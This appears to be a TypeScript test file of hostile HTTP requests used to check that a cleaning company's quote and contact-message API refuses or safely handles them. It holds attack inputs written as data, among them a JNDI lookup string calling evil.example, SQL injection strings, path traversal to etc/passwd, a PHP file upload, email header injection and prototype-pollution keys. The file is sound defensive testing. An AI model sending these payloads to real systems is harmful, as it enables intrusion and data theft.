import { aQuoteRequest } from "../../support/intake/aQuoteRequest";
import { form, json, quote } from "./builders";
import {
  accepted,
  badRequest,
  cases,
  forbidden,
  type HostileCase,
  type HostileRequest,
  invalid,
  posted,
  refused,
  wrongType,
} from "./HostileRequest";

const text = JSON.stringify(aQuoteRequest());
const allowPost = refused(405, "method_not_allowed", { allow: "POST" });
const notFound = refused(404, "not_found");
const site = "https://www.dogwoodcleaning.example";

function typed(type: string | undefined, body: string | Uint8Array = text): HostileRequest {
  return { headers: type === undefined ? [] : [["Content-Type", type]], body: Buffer.from(body) };
}

const methods: HostileCase[] = [
  ...["GET", "PUT", "PROPFIND", "TRACE", "QUERY"].flatMap((method) =>
    cases(allowPost, { [method]: { ...json(text), method } }),
  ),
  ...cases(allowPost, {
    HEAD: { method: "HEAD" },
    "a GET with the request in its query": {
      method: "GET",
      path: `/api/quote-requests?${new URLSearchParams(aQuoteRequest()).toString()}`,
    },
    "a CORS preflight": {
      method: "OPTIONS",
      headers: [
        ["Origin", "https://evil.example"],
        ["Access-Control-Request-Method", "POST"],
        ["Access-Control-Request-Headers", "content-type"],
      ],
    },
  }),
  ...cases(accepted, {
    "X-HTTP-Method-Override on a POST": quote({}, { "X-HTTP-Method-Override": "DELETE" }),
  }),
  ...cases(posted, { "_method in a form": form({ _method: "DELETE" }) }),
];

const contentTypes: HostileCase[] = [
  ...[
    "text/plain;charset=UTF-8",
    "application/json-patch+json",
    "application/json, text/plain",
    "application/json; charset=utf-8; boundary=x",
    "application/x-www-form-urlencoded; charset=shift_jis",
    "Multipart/Form-Data; boundary=x",
  ].flatMap((type) => cases(wrongType, { [`Content-Type: ${type}`]: typed(type) })),
  ...cases(wrongType, {
    "no Content-Type": typed(undefined),
    "Content-Type of 4,000 letters": typed(`application/json; ${"x".repeat(4000)}`),
    "a real multipart form with a file": typed(
      "multipart/form-data; boundary=XX",
      [
        '--XX\r\nContent-Disposition: form-data; name="firstName"\r\n\r\nJane\r\n',
        '--XX\r\nContent-Disposition: form-data; name="f"; filename="../../x.php"\r\n\r\n<?php\r\n--XX--\r\n',
      ].join(""),
    ),
    "Content-Type twice, JSON last": {
      headers: [
        ["Content-Type", "text/plain"],
        ["Content-Type", "application/json"],
      ],
      body: Buffer.from(text),
    },
  }),
  ...cases(accepted, {
    "Content-Type with capitals, blanks and semicolons": typed(
      "APPLICATION/json ; charset=utf-8 ;",
    ),
  }),

  // Node keeps the first of two; Netlify joins them to an unknown type. Both are harmless.
  ...cases(
    accepted,
    {
      "Content-Type twice, JSON first": {
        headers: [
          ["Content-Type", "application/json"],
          ["Content-Type", "text/plain"],
        ],
        body: Buffer.from(text),
      },
    },
    { netlify: wrongType },
  ),
];

const origins: HostileCase[] = [
  ...cases(accepted, {
    "no Origin, as a program": quote(),
    "our own Origin": quote({}, { Origin: site, "Sec-Fetch-Site": "same-origin" }),
  }),
  ...[
    "https://evil.example",
    `${site}:8443`,
    `${site}.evil.example`,
    `${site}@evil.example`,
    "null",
  ].flatMap((origin) => cases(forbidden, { [`Origin: ${origin}`]: quote({}, { Origin: origin }) })),
  // A page under any name of the host that it posts to is ours, and over plain HTTP its browser sends no Sec-Fetch-Site.
  ...["http://www.dogwoodcleaning.example"].flatMap((origin) => [
    ...cases(accepted, {
      [`Origin: ${origin} at the same Host`]: quote(
        {},
        { Host: "www.dogwoodcleaning.example", Origin: origin },
      ),
    }),
    ...cases(forbidden, {
      [`Origin: ${origin} at another Host`]: quote({}, { Host: "127.0.0.1:8000", Origin: origin }),
    }),
  ]),
  ...cases(forbidden, {
    "Origin twice": quote({}, [
      ["Origin", site],
      ["Origin", "https://evil.example"],
    ]),
    "Sec-Fetch-Site: cross-site with our Origin": quote(
      {},
      { "Sec-Fetch-Site": "cross-site", Origin: site },
    ),
  }),
  // No script can write it. Behind a proxy that changes Host it is all that tells a page of ours.
  ...cases(accepted, {
    "Sec-Fetch-Site: same-origin with another Origin and Host": quote(
      {},
      { "Sec-Fetch-Site": "same-origin", Origin: "https://dogwoodcleaning.example" },
    ),
  }),
  ...cases(
    { status: 403, rows: 0, mails: 0 },
    { "a form from another site": form({}, { Origin: "https://evil.example" }) },
  ),
  ...cases(posted, { "a form opened from an email": form({}, { "Sec-Fetch-Site": "none" }) }),
];

const tricks: HostileCase[] = [
  ...cases(accepted, {
    "a forged X-Forwarded-For": quote({}, { "X-Forwarded-For": "127.0.0.1, 10.0.0.1, evil" }),
    "X-Forwarded-For with an injection": quote(
      {},
      { "X-Forwarded-For": "' OR 1=1; --", "X-Real-IP": "${jndi:ldap://evil.example/x}" },
    ),
    "X-Forwarded-For fifty times": quote(
      {},
      Array.from({ length: 50 }, (_, n): [string, string] => ["X-Forwarded-For", `10.0.0.${n}`]),
    ),
    "X-Forwarded-Host and Forwarded": quote(
      {},
      {
        "X-Forwarded-Host": "evil.example",
        Forwarded: "host=evil.example;proto=http",
        "X-Forwarded-Proto": "http",
      },
    ),
    "a foreign Host": quote({}, { Host: "evil.example" }),
    "a foreign Host and the matching Origin": quote(
      {},
      { Host: "evil.example", Origin: "https://evil.example" },
    ),
    "a cookie of 4,000 letters": quote({}, { Cookie: `__proto__=1; a=${"x".repeat(4000)}` }),
    "a bearer token": quote({}, { Authorization: "Bearer eyJhbGciOiJub25lIn0.e30." }),
    "User-Agent with terminal codes": quote(
      {},
      { "User-Agent": "\x9b31mred", Referer: "javascript:alert(1)" },
    ),
    "Accept of anything": quote({}, { Accept: "text/html" }),
    "Expect: 100-continue": quote({}, { Expect: "100-continue" }),
    "Upgrade: websocket": quote({}, { Upgrade: "websocket" }),
    "a header called __proto__": quote({}, { __proto__: "polluted", constructor: "x" }),
    "a hundred headers": quote(
      {},
      Array.from({ length: 100 }, (_, n): [string, string] => [`X-H${n}`, "x"]),
    ),
    "Latin-1 bytes in a header": quote({}, { "X-Name": "Jos\xe9" }),
  }),
];

const idempotencyKeys: HostileCase[] = [
  ...cases(accepted, {
    "a key of 8 letters": quote({ details: "key 8" }, { "Idempotency-Key": "12345678" }),
    "a key of 255 letters": quote({ details: "key 255" }, { "Idempotency-Key": "k".repeat(255) }),
    "a key in quotes": quote({}, { "Idempotency-Key": '"c9f4dbb1-6a39-4a54-8e02-b0f8a0c9a1f2"' }),
    "a key that is an injection": quote(
      {},
      { "Idempotency-Key": "x';drop/**/table/**/quote_requests;--" },
    ),
    "a key called __proto__": quote({}, { "Idempotency-Key": "__proto__" }),
  }),
  ...cases(badRequest, {
    "a key of 256 letters": quote({}, [["Idempotency-Key", "k".repeat(256)]]),
    "an empty key header": quote({}, { "Idempotency-Key": "" }),
    "a key with letters beyond ASCII": quote({}, { "Idempotency-Key": "caf\xe9caf\xe9caf\xe9" }),
  }),

  // Node joins repeats with a blank, Netlify without: there the two are one longer key.
  ...cases(
    badRequest,
    {
      "two keys": quote({}, [
        ["Idempotency-Key", "first-key-1"],
        ["Idempotency-Key", "second-key-2"],
      ]),
    },
    { netlify: accepted },
  ),
];

const paths: HostileCase[] = [
  ...cases(accepted, {
    "a query is ignored": {
      ...quote(),
      path: "/api/quote-requests?__proto__[polluted]=1&a[]=1&a[]=2&%ff",
    },
  }),
  // Netlify has an answer of its own for a path without a Function.
  ...[
    "/api/quote-requests/",
    "/api/quote-requests/../health",
    "/api/quote-requests%00",
    "/api/__proto__",
    "/api/..%2f..%2f..%2fetc%2fpasswd",
    "/api//quote-requests",
    "/api/%ff",
  ].flatMap((path) =>
    cases(notFound, { [`POST ${path}`]: { ...quote(), path } }, { only: "server" }),
  ),
  ...cases(refused(405, "method_not_allowed", { allow: "GET, HEAD" }), {
    "health by POST": { ...json("{}"), path: "/api/health" },
  }),
];

const contact = {
  name: "Sam Rivera",
  email: "sam@example.com",
  subject: "Gift cards",
  message: "Do you offer them?",
};
const toContact = (changes: Record<string, unknown>): HostileRequest => ({
  ...json({ ...contact, ...changes }),
  path: "/api/contact-messages",
});

const contactMessages: HostileCase[] = [
  ...cases(accepted, {
    "a contact message with a phone": toContact({ phone: "+44 20 7946 0958" }),
    // Line breaks are taken out, as of a name that was pasted.
    "a contact subject with a second header": toContact({
      subject: "Hi\r\nBcc: victim@example.com",
    }),
    "a contact name with a second header": toContact({ name: "Sam\nTo: victim@example.com" }),
    "a contact message with elements": toContact({
      subject: "<b>Hi</b>",
      message: '<h1 onclick="x()">Hi</h1>\n.\r\n<style>*{display:none}</style>',
    }),
  }),
  ...cases(invalid("message"), {
    "an empty contact message": toContact({ message: "\u200b \u00a0" }),
    "a contact message that is an array": toContact({ message: ["x"] }),
  }),
  ...cases(allowPost, {
    "a GET of contact messages": { method: "GET", path: "/api/contact-messages" },
  }),
];

export const headers = [
  ...methods,
  ...contentTypes,
  ...origins,
  ...tricks,
  ...idempotencyKeys,
  ...paths,
  ...contactMessages,
];
